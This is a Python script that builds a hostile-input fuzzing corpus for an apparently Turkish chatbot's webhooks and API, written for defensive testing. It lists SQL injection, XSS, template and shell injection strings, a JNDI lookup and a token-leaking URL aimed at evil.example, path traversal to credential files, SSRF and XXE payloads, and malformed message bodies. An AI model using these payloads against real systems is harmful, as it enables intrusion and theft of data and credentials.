"""Writes the hostile-input corpus next to this file: `python tests/data/hostile/make_corpus.py`.

The JSONL files are the corpus (committed; edit them or this script, then run it again). One JSON object
a line, so lone surrogates, NUL and every control character travel as JSON escapes:

* texts.jsonl            what a person can type anywhere: {"id", "tags", "text", "repeat"?} (text * repeat)
* telegram_bodies.jsonl  raw POST bodies for /telegram/webhook: one of "json" (a value), "text" (UTF-8),
                         "hex" (bytes) or "parts" ([[piece, count], ...], concatenated, UTF-8); optional
                         "content_type"
* whatsapp_bodies.jsonl  the same for /whatsapp/webhook (signed with the right secret by the test)
* webchat_frames.jsonl   WebSocket frames after hello: "text" (a text frame), "json" (a value sent as a text
                         frame), "hex" (a binary frame) or "parts"
* api_cases.jsonl        raw REST API requests: {"method", "path", "params"?, "content_type"?, body as above}
* forgeries.jsonl        webhook calls that must be refused: {"channel", "header" (value or null), "hex"?}
"""

import json
from pathlib import Path

HERE = Path(__file__).parent

# ---------------------------------------------------------------------------------------------- texts

SQL = [
    "' OR '1'='1",
    "' OR 1=1 --",
    "'; DROP TABLE requests; --",
    '"; DROP TABLE contacts; --',
    "1; DELETE FROM processed_updates",
    "Robert'); DROP TABLE students;--",
    "admin'--",
    "' UNION SELECT * FROM staff_users --",
    "' UNION SELECT password_hash, username FROM staff_users --",
    "1' AND SLEEP(5) --",
    "1'; SELECT pg_sleep(5); --",
    "'; UPDATE requests SET status='approved' --",
    "' OR ''='",
    "%' OR '%'='",
    "\\'; DROP TABLE x; --",
    "1 OR 1=1",
    "') OR ('a'='a",
    "'||(SELECT sqlite_version())||'",
    "' AND 1=CAST((SELECT version()) AS int) --",
    "'; INSERT INTO staff_users (username) VALUES ('evil'); --",
    "\x27 OR \x271\x27=\x271",
    "Konak'; DROP TABLE requests; --",
    "482913656' OR '1'='1",
    "10000000146'; --",
    "+90 532 123 45 67' OR 1=1",
    "$where: '1 == 1'",
    '{"$gt": ""}',
    "'; COPY requests TO '/tmp/x'; --",
    "ATTACH DATABASE '/tmp/x.db' AS x; --",
    'Bostanlı"); PRAGMA writable_schema=1; --',
]
HTML = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(document.cookie)>",
    "<b>kalın</b> <i>eğik</i>",
    '<a href="javascript:alert(1)">tıkla</a>',
    "javascript:alert(1)",
    '<iframe src="https://evil.example"></iframe>',
    "<body onload=alert(1)>",
    "<style>*{display:none}</style>",
    "<marquee>Merhaba</marquee>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "<tg-spoiler>gizli</tg-spoiler>",
    '<pre><code class="language-python">x</code></pre>',
    "<b>unclosed",
    "</b></i></a>",
    "<a href='tg://user?id=1'>x</a>",
    "*bold* _italic_ `code` [link](http://x)",
    "__underline__ ~strike~ ||spoiler||",
    "```\ncode\n```",
    "{{constructor.constructor('alert(1)')()}}",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<script>alert('ذ')</script> مرحبا",
    '" onmouseover="alert(1)',
    "<!--",
    "]]><x>",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "<form action=/console/logout method=post><button>x</button></form>",
]
TEMPLATES = [
    "{ $text }",
    "{ $name }",
    "{$reference}",
    "{ -brand }",
    '{ "literal" }',
    "{ NUMBER(1) }",
    "{",
    "}",
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%s%s%s%s%n",
    "%(name)s",
    "{0}{1}{__class__}",
    "{self.__init__.__globals__}",
    "${jndi:ldap://evil.example/a}",
    "$(reboot)",
    "`reboot`",
    "| cat /etc/passwd",
    "; ls -la",
    "\\x00\\n\\r",
    "\\u202e",
    "[[ .Secret ]]",
    "{% raw %}{{ x }}{% endraw %}",
    "nil",
    "None",
    "null",
    "undefined",
    "NaN",
    "true",
    "-0",
    "1e999",
    "0x41",
    "__proto__",
    "constructor",
    '{"a": 1}',
    "[]",
    '[{"kind": "photo"}]',
]
BIDI_ZW = [
    "\u202e\u2066Merhaba\u2069",
    "\u202eetybahreM",
    "abc\u202edef\u202cghi",
    "\u2067مرحبا\u2069 Ayşe",
    "\u200f\u200e\u200f",
    "\u200b",
    "\u200b\u200b\u200b\u200b",
    "\u200c\u200d",
    "\ufeff",
    "\ufeffMerhaba",
    "Mer\u200bhaba",
    "4\u200b8\u200b2 9\u200b1\u200b3 6\u200b5\u200b6",
    "\u2066482 913 656\u2069",
    "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069",
    "\u061cسلام\u061c",
    "\u00ad\u00ad\u00ad",
    "📝 Başvuru\u200b yap",
    "\u200e📋 Başvurularım\u200f",
    "❓ Yardım\ufe0f",
    "\u2068/start\u2069",
    "/st\u200bart",
    "/\u202estart",
    "\u2028",
    "\u2029",
    "satır\u2028ayrı\u2029paragraf",
    "\u202e" * 50,
    "\u200b" * 500,
    "\u2066" * 100 + "x",
    "Ayşe \u202e\u2066gnp.exe\u2069\u2069.txt",
    "\u180e\u2060\u2061\u2062\u2063\u2064",
]
SURROGATES_CONTROLS = [
    "\ud800",
    "\udfff",
    "a\ud800b",
    "\udc00\ud800",
    "\ud83d",
    "Merhaba \ud83d",
    "\ud83d\ude00",  # a pair: 😀
    "\x00",
    "a\x00b",
    "\x00" * 20,
    "/start\x00",
    "482913656\x00",
    "\x01\x02\x03\x04\x05\x06\x07\x08",
    "\x0b\x0c\x0e\x0f\x1b[31mred\x1b[0m",
    "\x7f\x80\x81\x9f",
    "\r",
    "\r\n\r\n",
    "\n" * 50,
    "\t\t\t",
    "\x1b]0;title\x07",
    "\x85",
    "x\x08\x08\x08y",
    "\ufffd\ufffd\ufffd",
    "\uffff",
    "\ufffe",
    "\U0010ffff",
    "\U000e0001\U000e0074\U000e0072",
    "\ue000\uf8ff",
    "\U000f0000",
]
EMOJI_MARKS = [
    "😀",
    "😀" * 10,
    "👨‍👩‍👧‍👦",
    "🏳️‍🌈",
    "🇹🇷🇸🇾🇦🇫🇺🇦",
    "👍🏽",
    "🧕🏾‍♀️",
    "❤️‍🔥",
    "🫶",
    "🙂" * 2048,
    "Z̸̢̧̛̛̤̦̬͈͖̜͖̩̱̞̬̼̥̹̖̞̹̪̊̽̿̈́̂̈́̆̿͑̓̈́̋͌̍̉̑͗̕͘̕͠͝͝ͅa̴̡̢̛͖̘̫̩̲̩̦͖̗̭͖̦͕̮̗̿̈́̌̀̈̅̈́̈́͊̓͌̈́͌̈́̃̕͜͠ḷ̵̨̢̞̦͎̠̭̞̰̼̦̮̯̙͉̙̈̈́̀͗̐̄̀͊̈́̋̌̚͘͝g̸̨͉̪̗̠̠̗̭̹͙̺̫͎̋̇̽̓͒͊̈́̔̅̂̀̒̅̕͜o̷̢̨̧̺̙̰̣̲͕̠̙͓̖̲̳̰̐̉̈́̈́̋͊͛̈́̏̂̕̚͝",
    "e" + "\u0301" * 300,
    "\u0301",
    "\u0301\u0302\u0303",
    "ı̇",
    "İstanbul",
    "ISTANBUL istanbul İSTANBUL",
    "Kars\u0131yaka",
    "Karşıyaka",
    "Kars\u0327\u0131yaka",
    "çe\u0301şme",
    "Ödemiş",
    "O\u0308demis\u0327",
    "ﷺ",
    "﷽",
    "꧁꧂",
    "𒐫",
    "𓀀𓀁𓀂",
    "\U0001f9d1\u200d\U0001f91d\u200d\U0001f9d1",
    "🅰🅱🅾",
    "🔟",
    "̷̛̛̛" * 100,
    "あいうえお",
    "漢字かな交じり文",
    "한국어",
    "ภาษาไทย",
    "ᚠᛇᚻ",
]
LONG = [  # (text, repeat, tag)
    ("a", 4095, "at-limit"),
    ("a", 4096, "at-limit"),
    ("a", 4097, "over-limit"),
    ("ş", 4000, "at-4000"),
    ("ş", 4001, "over-4000"),
    ("Merhaba dünya ", 700, "long-words"),
    ("ب", 5000, "long-rtl"),
    ("x", 10000, "long"),
    ("satır\n", 2000, "long-lines"),
    ("😀", 4096, "long-emoji"),
    ("👨‍👩‍👧‍👦", 600, "long-zwj"),
    ("e\u0301", 3000, "long-combining"),
    ("9", 5000, "long-digits"),
    (" ", 5000, "long-blank"),
    ("\u200b", 4097, "long-invisible"),
    ("<b>", 2000, "long-html"),
    ("' OR 1=1 -- ", 400, "long-sql"),
    ("/start ", 1000, "long-command"),
    ("٤", 4200, "long-arabic-digits"),
    ("a\n", 4096, "long-split"),
]
DIGITS = [
    "482 913 656",
    "482913656",
    "٤٨٢٩١٣٦٥٦",
    "۴۸۲ ۹۱۳ ۶۵۶",
    "482-913-657",
    "４８２９１３６５６",
    "⁴⁸²⁹¹³⁶⁵⁶",
    "४८२९१३६५६",
    "৪৮২৯১৩৬৫৬",
    "𝟒𝟖𝟐𝟗𝟏𝟑𝟔𝟓𝟔",
    "482.913.656.",
    "000000000",
    "999999999",
    "123456789",
    "12345678901234567890",
    "9" * 400,
    "-482913656",
    "+482913656",
    "482 913 656 482 913 656",
    "0x1CC4B6F8",
    "10000000146",
    "1 0 0 0 0 0 0 0 1 4 6",
    "١٠٠٠٠٠٠٠١٤٦",
    "98123456789",
    "00000000000",
    "0532 123 45 67",
    "+90 532 123 45 67",
    "+1 (555) 010-9999",
    "+963 944 123 456",
    "0090532123456700",
    "+" + "9" * 40,
    "+",
    "(0532) 123-45-67 ext. 99",
    "tel:+905321234567",
    "①②③④⑤⑥⑦⑧⑨",
    "Ⅳ Ⅸ Ⅻ",
    "3.14159",
    "1/0",
    "-1",
    "0",
    "31",
    "٣١",
    "1e308",
    "NaN",
    "∞",
    "4\u0334",
    "½",
    "²",
    "00",
    "007",
]
UNICODE_ODD = [
    "Merhaba",
    "merhaba",
    "MERHABA",
    "Merhabalar, kömür yardımı için ne zaman başvuru yapabilirim?",
    "أحتاج إلى مساعدة في دفع الإيجار",
    "سلام، برای اجاره خانه کمک می‌خواهم",
    "زه مرسته غواړم",
    "Ez alîkariyê dixwazim",
    "Мені потрібна допомога",
    "Мне нужна помощь",
    "Waxaan u baahanahay caawimaad",
    "J'ai besoin d'aide",
    "Merhaba مرحبا Привет",
    "Pаypal",
    "Kаrşıyаka",
    "ΚΟΝΑΚ",
    "ℌ𝔢𝔩𝔩𝔬",
    "Ｍｅｒｈａｂａ",
    "ﾒﾙﾊﾊﾞ",
    "Ǆǅǆ ǈǉ",
    "ß ẞ ﬀ ﬁ ﬂ",
    "İi Iı",
    "\u0130\u0049\u0131\u0069",
    "ŉ ǰ ΐ ΰ",
    "Å Å Å",
    "가",
    "\u1100\u1161",
    "\u3000",
    "\u00a0\u00a0\u00a0",
    "\u2000\u2001\u2002\u2003\u2004\u2005\u2006\u2007\u2008\u2009\u200a",
    "\u205f\u3000\u1680",
    "\t \n \r \x0b \x0c",
    "",
    " ",
    "  ",
    "\n",
    ".",
    "?",
    "!!!",
    "...",
    "…",
    "-",
    "_",
    "😀 ?",
    "👍",
    "🙏🙏🙏",
    "ok",
    "k",
    "x" * 65,
    "Başvuru",
    "Başvurularım",
    "Yardım",
    "menu",
    "help",
]
COMMANDS = [
    "/start",
    "/start@HemsehriBot",
    "/start@someone_else_bot",
    "/START",
    "/start extra words",
    "/start " + "x" * 300,
    "/cancel",
    "/help",
    "/apply",
    "/status",
    "/ask",
    "/language",
    "/lang",
    "/menu",
    "/foo",
    "/",
    "//",
    "/ ",
    "/" + "a" * 64,
    "/" + "a" * 65,
    "/start/help",
    "/ask@",
    "/süper",
    "/١",
    "/start\n/help",
    "/apply\u202e",
    "/status 482 913 656",
    "/status ' OR 1=1 --",
    "/lang zz",
    "/lang ar",
    "/language '; DROP TABLE x",
]
PATHS = [
    "../../etc/passwd",
    "..\\..\\windows\\system32\\config\\sam",
    "/etc/shadow",
    "CON",
    "NUL.pdf",
    "kimlik.pdf\x00.exe",
    "kimlik.pdf\u202egnp.exe",
    "\\\\server\\share",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
    "https://evil.example/?token=123456:ABC",
    "C:\\Users\\x\\Desktop",
    "~/.ssh/id_rsa",
    "%2e%2e%2f%2e%2e%2f",
    "..%c0%af..%c0%af",
    "a" * 300 + ".pdf",
]
BUTTON_DATA = [  # the engine's own prefixes, bent
    "lang:",
    "lang:zz",
    "lang:tr\u0000",
    "lang:../../",
    "lang:" + "a" * 59,
    "menu:",
    "menu:__class__",
    "menu:zzz",
    "prog:",
    "prog:' OR 1=1",
    "prog:cash_aid<script>",
    "page:-1",
    "page:99999999999999999999",
    "page:1e9",
    "page:NaN",
    "dpage:-5",
    "dist:",
    "dist:konak' --",
    "ref:",
    "ref:abc",
    "ref:482913656",
    "ref:" + "9" * 60,
    "switch:maybe",
    "apply:confirm",
    "apply:back",
    "edit:zzz",
    "docs:done",
    "consent:yes",
    "consent:maybe",
    "cancel",
    "wa:own-phone",
    "wa:more:x:9:tr",
    "wa:menu:99",
    "wa:zzz",
    ":",
    "::::",
    "lang:tr:extra",
]


def texts() -> list[dict]:
    entries: list[dict] = []

    def add(group: str, tags: list[str], values: list[str]) -> None:
        for number, value in enumerate(values, start=1):
            entries.append({"id": f"{group}-{number:03d}", "tags": tags, "text": value})

    add("sql", ["sql"], SQL)
    add("html", ["html", "js"], HTML)
    add("template", ["template", "injection"], TEMPLATES)
    add("bidi", ["bidi", "zero-width"], BIDI_ZW)
    add("surrogate-control", ["surrogate", "control"], SURROGATES_CONTROLS)
    add("emoji-marks", ["emoji", "combining"], EMOJI_MARKS)
    for number, (piece, repeat, tag) in enumerate(LONG, start=1):
        entries.append({"id": f"long-{number:03d}", "tags": ["long", tag], "text": piece, "repeat": repeat})
    add("digits", ["digits", "reference", "identity", "phone"], DIGITS)
    add("unicode", ["unicode"], UNICODE_ODD)
    add("command", ["command"], COMMANDS)
    add("path", ["path"], PATHS)
    add("button", ["button-data"], BUTTON_DATA)
    ids = [entry["id"] for entry in entries]
    assert len(ids) == len(set(ids))
    return entries


# ----------------------------------------------------------------------------------- telegram bodies

USER = {"id": 7_100_000_000_001, "is_bot": False, "first_name": "Test", "language_code": "tr"}
CHAT = {"id": 7_100_000_000_001, "type": "private", "first_name": "Test"}


def _message(update_id: int, **fields) -> dict:
    message = {"message_id": 1, "from": USER, "chat": CHAT, "date": 1_790_000_000} | fields
    return {"update_id": update_id, "message": message}


def telegram_bodies() -> list[dict]:
    base = 8_800_000_000
    valid = _message(base, text="Merhaba")
    raw = json.dumps(valid)
    bodies: list[dict] = [
        {"id": "tg-empty", "text": ""},
        {"id": "tg-space", "text": " "},
        {"id": "tg-not-json", "text": "{not json"},
        {"id": "tg-truncated-1", "text": raw[: len(raw) // 2]},
        {"id": "tg-truncated-2", "text": raw[:-1]},
        {"id": "tg-truncated-3", "text": raw[:1]},
        {"id": "tg-trailing-garbage", "text": raw + "}}}"},
        {"id": "tg-two-objects", "text": raw + raw},
        {"id": "tg-invalid-utf8", "hex": "7b22757064617465 5f6964223a 31 2c 22 ff fe 22 3a 31 7d".replace(" ", "")},
        {"id": "tg-bom", "hex": "efbbbf" + raw.encode().hex()},
        {"id": "tg-utf16", "hex": raw.encode("utf-16").hex()},
        {
            "id": "tg-latin1",
            "hex": json.dumps(_message(base + 1, text="Çok güzel"), ensure_ascii=False).encode("latin-1").hex(),
        },
        {"id": "tg-binary", "hex": "00" * 64 + "ff" * 64},
        {"id": "tg-gzip-magic", "hex": "1f8b0800000000000003"},
        {"id": "tg-null", "json": None},
        {"id": "tg-true", "json": True},
        {"id": "tg-number", "json": 42},
        {"id": "tg-string", "json": "update"},
        {"id": "tg-array", "json": [valid]},
        {"id": "tg-empty-object", "json": {}},
        {"id": "tg-no-update-id", "json": {"message": valid["message"]}},
        {"id": "tg-update-id-string", "json": {"update_id": "1", "message": valid["message"]}},
        {"id": "tg-update-id-float", "json": {"update_id": 1.5, "message": valid["message"]}},
        {"id": "tg-update-id-bool", "json": {"update_id": True, "message": valid["message"]}},
        {"id": "tg-update-id-huge", "json": {"update_id": 10**40, "message": valid["message"]}},
        {"id": "tg-update-id-negative", "json": {"update_id": -1, "message": {**valid["message"], "text": "eksi"}}},
        {"id": "tg-unknown-type", "json": {"update_id": base + 2, "poll_answer": {"poll_id": "1"}}},
        {"id": "tg-future-type", "json": {"update_id": base + 3, "message_reaction_2031": {"x": 1}}},
        {"id": "tg-edited", "json": {"update_id": base + 4, "edited_message": {**valid["message"], "edit_date": 1}}},
        {
            "id": "tg-channel-post",
            "json": {
                "update_id": base + 5,
                "channel_post": {"message_id": 1, "date": 1, "chat": {"id": -100, "type": "channel"}, "text": "x"},
            },
        },
        {
            "id": "tg-inline-query",
            "json": {
                "update_id": base + 6,
                "inline_query": {"id": "1", "from": USER, "query": "' OR 1=1", "offset": ""},
            },
        },
        {
            "id": "tg-two-kinds",
            "json": {
                "update_id": base + 7,
                "message": valid["message"],
                "callback_query": {"id": "1", "from": USER, "data": "x", "chat_instance": "1"},
            },
        },
        {"id": "tg-message-string", "json": {"update_id": base + 8, "message": "oops"}},
        {"id": "tg-message-list", "json": {"update_id": base + 9, "message": [1, 2]}},
        {"id": "tg-message-null", "json": {"update_id": base + 10, "message": None}},
        {
            "id": "tg-no-chat",
            "json": {"update_id": base + 11, "message": {"message_id": 1, "from": USER, "date": 1, "text": "no chat"}},
        },
        {
            "id": "tg-no-from",
            "json": {
                "update_id": base + 12,
                "message": {"message_id": 1, "chat": CHAT, "date": 1, "text": "anonymous"},
            },
        },
        {"id": "tg-from-bot", "json": _message(base + 13, text="bot", **{"from": {**USER, "is_bot": True}})},
        {"id": "tg-user-id-string", "json": _message(base + 14, text="x", **{"from": {**USER, "id": "7"}})},
        {
            "id": "tg-user-id-huge",
            "json": _message(base + 15, text="x", **{"from": {**USER, "id": 10**30}}, chat={**CHAT, "id": 10**30}),
        },
        {"id": "tg-chat-id-float", "json": _message(base + 16, text="x", chat={**CHAT, "id": 1.5})},
        {
            "id": "tg-group",
            "json": _message(
                base + 17, text="/start", chat={"id": -1001, "type": "supergroup", "title": "<b>grup</b>"}
            ),
        },
        {"id": "tg-chat-type-odd", "json": _message(base + 18, text="x", chat={**CHAT, "type": "' OR 1=1"})},
        {"id": "tg-date-string", "json": _message(base + 19, text="x", date="yesterday")},
        {"id": "tg-date-huge", "json": _message(base + 20, text="x", date=10**20)},
        {"id": "tg-date-negative", "json": _message(base + 21, text="x", date=-(10**12))},
        {"id": "tg-text-number", "json": _message(base + 22, text=12345)},
        {"id": "tg-text-object", "json": _message(base + 23, text={"a": 1})},
        {"id": "tg-text-list", "json": _message(base + 24, text=["a"])},
        {
            "id": "tg-entities-bad",
            "json": _message(base + 25, text="/start", entities=[{"type": "bot_command", "offset": 99, "length": -5}]),
        },
        {"id": "tg-location-huge", "json": _message(base + 26, location={"latitude": 10**400, "longitude": 1})},
        {
            "id": "tg-location-nan",
            "text": raw.replace('"text": "Merhaba"', '"location": {"latitude": NaN, "longitude": Infinity}').replace(
                str(base), str(base + 27)
            ),
        },
        {"id": "tg-location-string", "json": _message(base + 28, location={"latitude": "north", "longitude": "x"})},
        {
            "id": "tg-location-out-of-range",
            "json": _message(base + 29, location={"latitude": 500.0, "longitude": -900.0}),
        },
        {"id": "tg-photo-empty", "json": _message(base + 30, photo=[])},
        {"id": "tg-photo-bad-sizes", "json": _message(base + 31, photo=[{"file_id": "a"}, "x", None])},
        {
            "id": "tg-photo-huge-size",
            "json": _message(
                base + 32,
                photo=[{"file_id": "a", "file_unique_id": "u", "width": 10**6, "height": 10**6, "file_size": 10**15}],
            ),
        },
        {"id": "tg-document-no-id", "json": _message(base + 33, document={"file_name": "../../etc/passwd"})},
        {
            "id": "tg-document-evil",
            "json": _message(
                base + 34,
                document={
                    "file_id": "f" * 300,
                    "file_unique_id": "u",
                    "file_name": "kimlik.pdf\u0000.exe\u202e",
                    "mime_type": "text/html<script>",
                    "file_size": -1,
                },
            ),
        },
        {"id": "tg-contact-no-phone", "json": _message(base + 35, contact={"first_name": "x", "user_id": USER["id"]})},
        {
            "id": "tg-contact-phone-number",
            "json": _message(
                base + 36, contact={"phone_number": 905321234567, "first_name": "x", "user_id": USER["id"]}
            ),
        },
        {
            "id": "tg-contact-other",
            "json": _message(
                base + 37, contact={"phone_number": "' OR 1=1 --", "first_name": "<b>x</b>", "user_id": 1}
            ),
        },
        {"id": "tg-sticker-odd", "json": _message(base + 38, sticker={"file_id": 1, "emoji": "\ud800"})},
        {"id": "tg-service", "json": _message(base + 39, new_chat_members=[USER])},
        {
            "id": "tg-everything",
            "json": _message(
                base + 40,
                text="Merhaba",
                caption="c",
                photo=[{"file_id": "p"}],
                contact={"phone_number": "1"},
                location={"latitude": 1, "longitude": 1},
            ),
        },
        {
            "id": "tg-callback-no-data",
            "json": {
                "update_id": base + 41,
                "callback_query": {
                    "id": "9",
                    "from": USER,
                    "chat_instance": "1",
                    "message": {"message_id": 1, "chat": CHAT, "date": 1},
                },
            },
        },
        {
            "id": "tg-callback-data-object",
            "json": {
                "update_id": base + 42,
                "callback_query": {"id": "9", "from": USER, "chat_instance": "1", "data": {"a": 1}},
            },
        },
        {
            "id": "tg-callback-no-from",
            "json": {"update_id": base + 43, "callback_query": {"id": "9", "chat_instance": "1", "data": "lang:tr"}},
        },
        {
            "id": "tg-callback-id-bool",
            "json": {
                "update_id": base + 44,
                "callback_query": {"id": False, "from": USER, "chat_instance": "1", "data": "lang:tr"},
            },
        },
        {"id": "tg-callback-string", "json": {"update_id": base + 45, "callback_query": "lang:tr"}},
        {
            "id": "tg-callback-inaccessible",
            "json": {
                "update_id": base + 46,
                "callback_query": {
                    "id": "9",
                    "from": USER,
                    "chat_instance": "1",
                    "data": "menu:help",
                    "message": {"message_id": 1, "chat": CHAT, "date": 0},
                },
            },
        },
        {"id": "tg-nested-deep-array", "parts": [["[", 100_000], ["]", 100_000]]},
        {"id": "tg-nested-deep-object", "parts": [['{"a":', 5000], ["1", 1], ["}", 5000]]},
        {
            "id": "tg-nested-deep-in-update",
            "parts": [[f'{{"update_id": {base + 47}, "message": ', 1], ["[", 3000], ["]", 3000], ["}", 1]],
        },
        {
            "id": "tg-huge-string",
            "parts": [['{"update_id": 1, "message": {"text": "', 1], ["a", 2_000_000], ['"}}', 1]],
        },
        {
            "id": "tg-huge-under-limit",
            "parts": [[f'{{"update_id": {base + 48}, "padding": "', 1], ["é", 400_000], ['"}', 1]],
        },
        {
            "id": "tg-many-keys",
            "parts": [["{", 1], *[[f'"k{n}": {n}, ', 1] for n in range(2000)], [f'"update_id": {base + 49}}}', 1]],
        },
        {
            "id": "tg-duplicate-keys",
            "text": f'{{"update_id": {base + 50}, "update_id": "x", "message": 1, "message": {{"a": 1}}}}',
        },
        {"id": "tg-lone-surrogate-key", "text": f'{{"update_id": {base + 51}, "\\ud800": {{"\\udfff": 1}}}}'},
        {
            "id": "tg-huge-number",
            "parts": [[f'{{"update_id": {base + 52}, "message": {{"date": ', 1], ["9", 5000], ["}}", 1]],
        },
        {"id": "tg-form-body", "text": "update_id=1&message=x", "content_type": "application/x-www-form-urlencoded"},
        {"id": "tg-xml-body", "text": "<update><id>1</id></update>", "content_type": "application/xml"},
        {
            "id": "tg-multipart",
            "text": '--b\r\nContent-Disposition: form-data; name="x"\r\n\r\n1\r\n--b--\r\n',
            "content_type": "multipart/form-data; boundary=b",
        },
        {
            "id": "tg-json-as-text-plain",
            "json": _message(base + 53, text="text/plain gövde"),
            "content_type": "text/plain",
        },
        {"id": "tg-no-content-type", "json": _message(base + 54, text="içerik türü yok"), "content_type": ""},
        {
            "id": "tg-charset-lie",
            "json": _message(base + 55, text="charset yalan"),
            "content_type": "application/json; charset=utf-16",
        },
    ]
    return bodies


# ----------------------------------------------------------------------------------- whatsapp bodies

WA = "905551112233"


def _wa(messages=None, **value) -> dict:
    inner = {
        "messaging_product": "whatsapp",
        "metadata": {"display_phone_number": "15550000000", "phone_number_id": "106540352242922"},
    }
    if messages is not None:
        inner["contacts"] = [{"profile": {"name": "Test"}, "wa_id": WA}]
        inner["messages"] = messages
    inner |= value
    return {
        "object": "whatsapp_business_account",
        "entry": [{"id": "1", "changes": [{"value": inner, "field": "messages"}]}],
    }


def _wa_message(wamid: str, kind: str, content, **extra) -> dict:
    return {"from": WA, "id": wamid, "timestamp": "1790000000", "type": kind, kind: content, **extra}


def whatsapp_bodies() -> list[dict]:
    valid = json.dumps(_wa([_wa_message("wamid.hostile.valid", "text", {"body": "Merhaba"})]))
    return [
        {"id": "wa-empty", "text": ""},
        {"id": "wa-not-json", "text": "{nope"},
        {"id": "wa-truncated", "text": valid[: len(valid) // 2]},
        {"id": "wa-invalid-utf8", "hex": "7b226f626a656374223a22ff227d"},
        {"id": "wa-null", "json": None},
        {"id": "wa-array", "json": []},
        {"id": "wa-entry-not-list", "json": {"object": "whatsapp_business_account", "entry": {"a": 1}}},
        {"id": "wa-entry-item-string", "json": {"object": "whatsapp_business_account", "entry": ["x"]}},
        {"id": "wa-changes-not-list", "json": {"object": "x", "entry": [{"changes": "x"}]}},
        {"id": "wa-change-string", "json": {"object": "x", "entry": [{"changes": ["x"]}]}},
        {
            "id": "wa-value-string",
            "json": {"object": "x", "entry": [{"changes": [{"field": "messages", "value": "x"}]}]},
        },
        {
            "id": "wa-other-field",
            "json": {"object": "x", "entry": [{"changes": [{"field": "account_update", "value": {"x": 1}}]}]},
        },
        {"id": "wa-messages-not-list", "json": _wa(messages="x")},
        {"id": "wa-statuses-not-list", "json": _wa(statuses={"a": 1})},
        {"id": "wa-message-string", "json": _wa(["x", 1, None])},
        {"id": "wa-no-id", "json": _wa([{"from": WA, "type": "text", "text": {"body": "x"}}])},
        {"id": "wa-long-id", "json": _wa([_wa_message("w" * 500, "text", {"body": "x"})])},
        {"id": "wa-bad-from", "json": _wa([{**_wa_message("wamid.h.1", "text", {"body": "x"}), "from": "' OR 1=1"}])},
        {"id": "wa-type-number", "json": _wa([{**_wa_message("wamid.h.2", "text", {"body": "x"}), "type": 5}])},
        {"id": "wa-unknown-type", "json": _wa([_wa_message("wamid.h.3", "hologram", {"x": 1})])},
        {"id": "wa-text-no-body", "json": _wa([_wa_message("wamid.h.4", "text", {})])},
        {"id": "wa-text-body-number", "json": _wa([_wa_message("wamid.h.5", "text", {"body": 5})])},
        {"id": "wa-text-string", "json": _wa([_wa_message("wamid.h.6", "text", "x")])},
        {"id": "wa-interactive-odd", "json": _wa([_wa_message("wamid.h.7", "interactive", {"type": ["x"]})])},
        {
            "id": "wa-interactive-no-id",
            "json": _wa([_wa_message("wamid.h.8", "interactive", {"type": "button_reply", "button_reply": {}})]),
        },
        {
            "id": "wa-location-huge",
            "json": _wa([_wa_message("wamid.h.9", "location", {"latitude": 10**400, "longitude": 1})]),
        },
        {
            "id": "wa-location-nan",
            "text": json.dumps(_wa([_wa_message("wamid.h.10", "location", {"latitude": 1.0, "longitude": 2.0})]))
            .replace("1.0", "NaN")
            .replace("2.0", "Infinity"),
        },
        {
            "id": "wa-location-range",
            "json": _wa([_wa_message("wamid.h.11", "location", {"latitude": 91, "longitude": 181})]),
        },
        {"id": "wa-image-no-id", "json": _wa([_wa_message("wamid.h.12", "image", {"caption": "x"})])},
        {
            "id": "wa-document-evil",
            "json": _wa(
                [
                    _wa_message(
                        "wamid.h.13",
                        "document",
                        {"id": "1", "filename": "../../etc/passwd\u0000\u202e", "mime_type": "text/html<script>"},
                    )
                ]
            ),
        },
        {"id": "wa-contacts-odd", "json": _wa([_wa_message("wamid.h.14", "contacts", [{"phones": "x"}, 1])])},
        {
            "id": "wa-status-odd",
            "json": _wa(
                statuses=[{"id": 1, "status": ["x"]}, "x", {"id": "wamid.s", "status": "exploded", "timestamp": "x"}]
            ),
        },
        {"id": "wa-nested-deep", "parts": [["[", 100_000], ["]", 100_000]]},
        {"id": "wa-nested-deep-object", "parts": [['{"object":', 3000], ["1", 1], ["}", 3000]]},
        {"id": "wa-too-large", "parts": [['{"object": "', 1], ["a", 1_100_000], ['"}', 1]]},
        {
            "id": "wa-lone-surrogate",
            "text": valid.replace("Merhaba", "\\ud800").replace("hostile.valid", "hostile.surrogate"),
        },
        {"id": "wa-nul", "text": valid.replace("Merhaba", "a\\u0000b").replace("hostile.valid", "hostile.nul")},
        {"id": "wa-form-body", "text": "object=x", "content_type": "application/x-www-form-urlencoded"},
    ]


# ------------------------------------------------------------------------------------ web chat frames


def webchat_frames() -> list[dict]:
    return [
        {"id": "wc-not-json", "text": "{nope"},
        {"id": "wc-empty", "text": ""},
        {"id": "wc-null", "json": None},
        {"id": "wc-array", "json": [1, 2]},
        {"id": "wc-string", "json": "text"},
        {"id": "wc-number", "json": 1e308},
        {"id": "wc-no-type", "json": {"id": "msg-000001", "text": "x"}},
        {"id": "wc-type-unknown", "json": {"type": "hologram", "id": "msg-000002"}},
        {"id": "wc-type-number", "json": {"type": 5, "id": "msg-000003"}},
        {"id": "wc-no-id", "json": {"type": "text", "text": "kimliksiz"}},
        {"id": "wc-id-short", "json": {"type": "text", "id": "x", "text": "x"}},
        {"id": "wc-id-evil", "json": {"type": "text", "id": "../../etc/passwd", "text": "x"}},
        {"id": "wc-id-object", "json": {"type": "text", "id": {"a": 1}, "text": "x"}},
        {"id": "wc-text-number", "json": {"type": "text", "id": "msg-000004", "text": 5}},
        {"id": "wc-text-blank", "json": {"type": "text", "id": "msg-000005", "text": "   "}},
        {"id": "wc-text-too-long", "json": {"type": "text", "id": "msg-000006", "text": "ç" * 4001}},
        {"id": "wc-frame-too-large", "json": {"type": "text", "id": "msg-000007", "text": "a" * 9000}},
